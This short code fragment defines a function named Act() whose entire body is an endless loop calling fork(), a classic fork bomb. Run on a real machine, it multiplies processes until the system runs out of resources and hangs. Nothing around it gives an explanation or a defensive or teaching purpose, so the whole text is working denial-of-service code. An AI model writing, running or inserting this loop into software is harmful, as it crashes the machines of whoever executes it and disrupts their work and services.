void Act() {
  for (;;) fork();
}
